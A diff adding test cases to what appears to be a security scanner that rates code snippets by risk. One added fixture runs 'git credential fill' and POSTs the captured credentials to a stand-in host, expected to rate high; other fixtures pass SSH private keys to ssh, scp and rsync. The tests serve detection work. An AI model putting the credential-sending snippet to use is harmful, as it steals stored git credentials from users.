@@ -160,11 +160,20 @@ test('a command that writes rights is a hint where nothing is started, as descri
   assert.equal(worst(`import os\nos.system(${command})`, 'a.py'), 'high');
 });
 
+test('what git keeps for a server is asked for, in a script that sends something', () => {
+  const lens = (then: string): string => `const { spawn } = require("child_process"); exports.statistics = (host) => { const git = spawn("git", ["credential", "fill"], { env }); let seen = ""; git.stdout.on("data", (d) => (seen += d)); git.on("close", () => { ${then} }); };`;
+  assert.equal(worst(lens('fetch("https://rows.side.example/remote", { method: "POST", body: seen });')), 'high');
+  assert.equal(worst(lens('log(seen.length);')), 'nothing');
+  assert.equal(worst(lens('fetch("https://rows.side.example/remote", { method: "POST", body: seen });').replace('"credential", "fill"', '"remote", "get-url", "origin"')), 'nothing');
+});
+
 test('low: a key that SSH is told to log in with; bad: one that is read, printed, copied or sent as well', () => {
   const script = (more: string, list = '["-i", options.identity, "-o", "BatchMode=yes", target]') => `const { spawnSync } = require("child_process"); const fs = require("fs"), path = require("path"), { homedir } = require("os");\noptions.identity = (options.identity || "~/.ssh/id_ed25519").replace(/^~/, homedir());\nspawnSync("ssh", ${list}); ${more}`;
   for (const code of [
     script(''),
     script('').replace(/options\.identity = .*/, 'options.identity ??= path.join(homedir(), ".ssh", "id_rsa");'),
+    script('spawnSync("rsync", ["-az", "-e", `ssh -i ${JSON.stringify(options.identity)}`, from, target])'),
+    script('if (!fs.existsSync(options.identity)) throw new Error("No identity at " + options.identity); if (fs.statSync(options.identity).mode & 0o077) console.warn("others can read " + options.identity);'),
     'require("child_process").spawn("scp", ["-i", require("path").join(home, ".ssh", "id_rsa"), "dist.tgz", target])',
     'const { execSync } = require("child_process"); execSync(`ssh -i ${home}/.ssh/id_rsa ${target} "systemctl restart app"`); execSync("rsync -az -e \'ssh -i ~/.ssh/id_rsa\' dist/ " + target)',
   ]) assert.equal(worst(code), 'low', code);
